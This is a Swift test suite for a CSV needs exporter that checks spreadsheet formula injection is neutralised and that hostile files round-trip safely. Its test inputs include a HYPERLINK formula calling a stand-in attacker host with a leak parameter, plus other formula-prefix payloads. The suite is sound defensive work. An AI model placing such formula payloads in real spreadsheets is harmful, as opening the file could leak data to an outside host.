import Diagnostics
import NeedsCSV
import Testing
import TrainingModel

/// docs/formats.md, "Spreadsheet safety": formula-like texts leave neutralised, line breaks
/// leave quoted, and import → export → import gives the same rows.
@Suite("Needs CSV spreadsheet safety")
struct SpreadsheetSafetyTests {
    static let hostile = ["=HYPERLINK(\"http://attacker.example/?x\",\"click\")", "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx"]

    @Test("formula-like service names and need texts are written with a leading ', and read back as typed", arguments: hostile)
    func neutralised(_ text: String) throws {
        let need = Need(id: "N1", country: "BE", serviceKind: .police, service: text, text: text, headcount: 3)
        let csv = NeedsWriter.write([need])
        let line = try #require(csv.split(separator: "\r\n", omittingEmptySubsequences: false).dropFirst().first.map(String.init))
        let fields = try #require(CSVParser.parse(Array(line.utf8), file: "row").records.first?.fields)
        let service = NeedsReader.columns.firstIndex(of: "service")!, textColumn = NeedsReader.columns.firstIndex(of: "text")!
        #expect(fields[service] == "'" + text)
        #expect(fields[textColumn] == "'" + text)
        #expect(fields[NeedsReader.columns.firstIndex(of: "headcount")!] == "3")
        let reread = try NeedsReader().read(bytes: Array(csv.utf8), name: "needs.csv").value
        #expect(reread == [need])
    }

    @Test("a textarea answer with CRLF line breaks survives export and import")
    func crlfAnswer() throws {
        let answer = "Eerste regel\r\nTweede regel, met komma\r\n\r\nDerde"
        let need = Need(id: "N1", country: "NL", serviceKind: .police, service: "Politie", text: answer, language: "nl")
        let csv = NeedsWriter.write([need])
        #expect(csv.contains("\"Eerste regel\r\nTweede regel, met komma\r\n\r\nDerde\""))
        let reread = try NeedsReader().read(bytes: Array(csv.utf8), name: "needs.csv").value
        #expect(reread == [need])
        #expect(reread.first?.text == answer)
    }

    @Test("import → export → import gives the same rows for a hostile file")
    func hostileRoundTrip() throws {
        let first = try NeedsReader().read(file: Fixtures.path("spreadsheet-hostile.csv")).value
        #expect(first.count == 6)
        let byID = Dictionary(uniqueKeysWithValues: first.map { ($0.id, $0) })
        #expect(byID["H1"]?.service == "=HYPERLINK(\"http://attacker.example/?leak=1\",\"click\")")
        #expect(byID["H3"]?.text == "=already guarded")
        #expect(byID["H4"]?.service == "+31 guarded phone")
        // A leading tab is kept: stripped, a tab-guarded cell would come out live.
        #expect(byID["H4"]?.text == "\ttab start")
        #expect(byID["H5"]?.text == "\tguarded tab")
        #expect(byID["H6"]?.service == "\rcarriage")
        #expect(byID["H6"]?.text == "line one\r\nline two\r\nline three")

        let exported = NeedsWriter.write(first)
        let second = try NeedsReader().read(bytes: Array(exported.utf8), name: "export.csv").value
        #expect(second == first)
        #expect(NeedsWriter.write(second) == exported)
        let records = CSVParser.parse(Array(exported.utf8), file: "export.csv").records.dropFirst()
        let service = NeedsReader.columns.firstIndex(of: "service")!, text = NeedsReader.columns.firstIndex(of: "text")!
        for record in records {
            for field in [record.fields[service], record.fields[text]] {
                let first = field.unicodeScalars.first
                #expect(first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true, "live formula cell: \(field.debugDescription)")
            }
        }
    }
}
